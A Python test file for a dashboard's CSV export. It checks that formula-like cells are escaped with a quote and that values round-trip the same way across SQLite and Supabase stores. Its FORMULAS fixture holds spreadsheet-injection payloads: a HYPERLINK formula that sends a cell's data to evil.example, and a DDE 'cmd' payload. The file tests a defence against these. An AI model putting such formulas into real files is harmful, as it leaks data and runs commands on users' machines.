""" "Download as CSV": cells a spreadsheet would run as formulas are escaped, everything else is verbatim."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as hyp

from predictions.dashboard import csv_export
from predictions.scoring.metrics import METRICS
from predictions.store import SQLiteStore
from predictions.store.frames import PREDICTION_COLUMNS
from predictions.store.records import PredictionRow
from tests.pg_fixtures import user_store

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Paris", " =not first", "a = b", "", "'already quoted"]


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_prefixed_with_a_quote_in_every_text_column(store, cell):
    store.write_predictions([PredictionRow(cell, 1, 10, 0, prompt=cell, prediction=cell, ground_truth=cell)])
    (row,) = read_csv(csv_export.job_csv(store, cell))
    for column in ("job_id", "prompt", "ground_truth", "prediction"):
        assert row[column] == "'" + cell, column


def test_other_cells_and_numbers_are_written_verbatim(store):
    rows = [
        PredictionRow(
            "job", 1, 10, i, prompt=text, prediction=text, ground_truth="Paris", exact_match=float(i % 2)
        )
        for i, text in enumerate(HARMLESS)
    ]
    store.write_predictions(rows)
    read = read_csv(csv_export.job_csv(store, "job"))
    assert [row["prediction"] for row in read] == HARMLESS
    assert [row["prompt"] for row in read] == HARMLESS
    assert {row["exact_match"] for row in read} == {"0.0", "1.0"}
    assert {row["step"] for row in read} == {"10"}


def test_line_breaks_inside_a_cell_stay_inside_it(store):
    texts = ["two\nlines", "carriage\rreturn", "both\r\nends"]
    store.write_predictions([PredictionRow("job", 1, 10, i, "p", text) for i, text in enumerate(texts)])
    assert [row["prediction"] for row in read_csv(csv_export.job_csv(store, "job"))] == texts


def test_a_job_larger_than_a_page_is_exported_whole_in_order_with_fixed_columns(store):
    """Keyset pages of 1,000: 2,500 rows over 5 rounds, a user score only from round 3 on."""
    store.write_predictions(
        [
            PredictionRow("job", 1, step, i, "p", f"{step}-{i}", scores={"judge": 0.5} if step >= 3 else None)
            for step in range(1, 6)
            for i in range(500)
        ]
    )
    read = read_csv(csv_export.job_csv(store, "job"))
    assert [row["prediction"] for row in read] == [f"{s}-{i}" for s in range(1, 6) for i in range(500)]
    assert list(read[0]) == list(read[-1]) and list(read[0])[-1] == "judge"
    assert {row["judge"] for row in read[:1000]} == {""} and {row["judge"] for row in read[1000:]} == {"0.5"}


def odd_rows(job_id: str, texts: list[str], numbers: list[float | None]) -> list[PredictionRow]:
    """Rows with user scores from round 2 on, metadata, missing values, unicode and formula-like text."""
    rows = []
    for step in (1, 2, 3):
        for i, text in enumerate(texts):
            number = numbers[(i + step) % len(numbers)]
            scores = {"judge": number, "zeta": 1.0} if step >= 2 else None
            metadata = {"topic": text, "n": i, "nested": {"ok": True, "list": [1, None]}} if i % 2 else None
            truth = None if i % 3 == 0 else text[::-1]
            rows.append(
                PredictionRow(job_id, step, step * 10, i, f"q {text}", text, truth, exact_match=number,
                              char_error_rate=None if number is None else abs(number), scores=scores,
                              metadata=metadata, text_replacements=i % 2)
            )  # fmt: skip
    return rows


TEXTS = ["Paris", "日本語 🙂", "=1+1", "-2", "two\nlines", 'say "hi", ok', "", "\r=x", "tab\there", "ﬁ ß Ω"]
NUMBERS = [None, 0.0, 1.0, 0.1 + 0.2, 1e-05, 123456.789, 1 / 3, 2.5e16, -0.0, 1e300, 5e-324]


def safe(text: str | None) -> str:
    return "" if text is None else "'" + text if text.startswith(csv_export.FORMULA_STARTS) else text


def number(cell: str) -> float | None:
    return None if cell == "" else float(cell)


def expected_cells(rows: list[PredictionRow]) -> list[tuple]:
    """What a reader gets back for the written rows: texts (formula-escaped), numbers read back exactly
    (repr round-trips), metadata as the parsed JSON, in (step, sample) order."""
    out = []
    for row in sorted(rows, key=lambda row: (row.step, row.sample_index)):
        texts = (safe(row.job_id), str(row.epoch), str(row.step), str(row.sample_index), safe(row.prompt))
        texts += (safe(row.ground_truth), safe(row.prediction))
        metrics = tuple(getattr(row, name) for name in METRICS)
        scores = tuple((row.scores or {}).get(name) for name in ("judge", "zeta"))
        out.append((texts, metrics, row.metadata, str(row.text_replacements), scores))
    return out


def read_cells(text: str) -> list[tuple]:
    """The file parsed strictly (RFC 4180: CRLF ends, doubled quotes) into `expected_cells`' shape."""
    assert text.endswith("\r\n")
    header, *lines = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert header == [*PREDICTION_COLUMNS, "judge", "zeta"]
    at = {name: header.index(name) for name in header}
    out = []
    for line in lines:
        texts = tuple(line[:7])
        metrics = tuple(number(line[at[name]]) for name in METRICS)
        metadata = line[at["metadata"]]
        scores = (number(line[at["judge"]]), number(line[at["zeta"]]))
        meta = json.loads(metadata) if metadata else None
        out.append((texts, metrics, meta, line[at["text_replacements"]], scores))
    return out


def test_every_text_cell_is_quoted_and_numbers_are_not(sqlite_store):
    """Quoting every text keeps an empty text (`""`) apart from a missing one (empty cell)."""
    sqlite_store.write_predictions([PredictionRow("job", 1, 10, 0, "p", "", None, exact_match=0.5)])
    line = csv_export.job_csv(sqlite_store, "job").split("\r\n")[1]
    assert line.startswith('"job",1,10,0,"p",,"",0.5,,,,,0,"')


def test_the_file_reads_back_as_written_on_every_store(store, monkeypatch):
    monkeypatch.setattr(csv_export, "CSV_PAGE_ROWS", 7)  # pages end mid-round and a score starts mid-page
    rows = odd_rows("job", TEXTS, NUMBERS)
    store.write_predictions(rows)
    assert read_cells(csv_export.job_csv(store, "job")) == expected_cells(rows)


STAMP = r'"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{1,6})?\+00:00"'
"""A `created_at` cell: each store stamps its own write time (PostgreSQL drops a fraction's trailing
zeros: `.3779`, or no fraction at a whole second)."""


def test_both_stores_write_the_same_bytes(postgrest, tmp_path, monkeypatch):
    """The same rows give the same file from SQLite and Supabase: metadata JSON with sorted keys (jsonb
    reorders them), numbers as repr, whichever types each store hands back."""
    monkeypatch.setattr(csv_export, "CSV_PAGE_ROWS", 7)
    rows = odd_rows("job", TEXTS, NUMBERS)
    rows[1] = dataclasses.replace(
        rows[1], metadata={"zz": 1, "a": 1.5, "é": "ü", "long key first": [1, 2.25]}
    )
    sqlite, supabase = SQLiteStore(tmp_path / "p.db"), user_store(postgrest)
    for store in (sqlite, supabase):
        store.write_predictions(rows)
    written = [re.sub(STAMP, '"T"', csv_export.job_csv(store, "job")) for store in (sqlite, supabase)]
    assert written[0] == written[1] and written[0].count('"T"') == len(rows)  # write times differ only
    assert '"{""a"": 1.5, ""long key first"": [1, 2.25], ""zz"": 1, ""é"": ""ü""}"' in csv_export.job_csv(
        sqlite, "job"
    )
    sqlite.close()
    supabase.close()


@settings(max_examples=40, deadline=None)
@given(
    texts=hyp.lists(
        hyp.text(hyp.characters(blacklist_categories=["Cs"], blacklist_characters="\x00")),
        min_size=1,
        max_size=6,
    ),
    numbers=hyp.lists(
        # below 1e300: a round's score sum overflowing breaks `trends` on SQLite (a bug of its own)
        hyp.one_of(hyp.none(), hyp.floats(-1e300, 1e300)),
        min_size=1,
        max_size=5,
    ),
)
def test_any_values_read_back_as_written(tmp_path_factory, texts, numbers):
    store = SQLiteStore(tmp_path_factory.mktemp("csv") / "p.db")
    rows = odd_rows("job", texts, numbers)
    store.write_predictions(rows)
    assert read_cells(csv_export.job_csv(store, "job")) == expected_cells(rows)
    store.close()


def cell_by_cell(rows: list[tuple], columns: list[str]) -> str:
    """The reference for `csv_lines`: every value made a cell on its own, one call each."""
    kinds = [
        csv_export.integer_cell
        if name in csv_export.INTEGER_COLUMNS
        else csv_export.text_cell
        if name in csv_export.TEXT_COLUMNS
        else csv_export.number_cell
        for name in columns
    ]
    return "".join(
        ",".join(make(value) for make, value in zip(kinds, row, strict=True)) + "\r\n" for row in rows
    )


FEW_NUMBERS = hyp.sampled_from([None, 0.0, -0.0, 1.0, 0.5, 1, 0, 2.5e16, 1e-05, float("nan")])
"""Numbers from a small pool: columns whose values repeat take the per-distinct-value path."""


@settings(max_examples=200, deadline=None)
@given(
    hyp.lists(
        hyp.tuples(
            hyp.text(max_size=4),
            hyp.sampled_from(["=a", "b", '"c"', None]),
            hyp.one_of(hyp.none(), hyp.integers(-3, 3)),
            hyp.one_of(FEW_NUMBERS, hyp.floats()),
            FEW_NUMBERS,
            hyp.floats(allow_nan=False),
        ),
        max_size=40,
    )
)
def test_columns_are_written_as_each_cell_alone_would_be(rows):
    """Column by column (cached repeats, `float.__repr__` over a column, its fallback for None and
    integers, -0.0 as 0.0) gives the bytes of making each cell alone, for pages of any mix."""
    columns = ["prediction", "prompt", "step", "char_error_rate", "exact_match", "custom"]
    makers = csv_export.column_makers(columns)
    assert csv_export.csv_lines(rows, makers) == cell_by_cell(rows, columns)
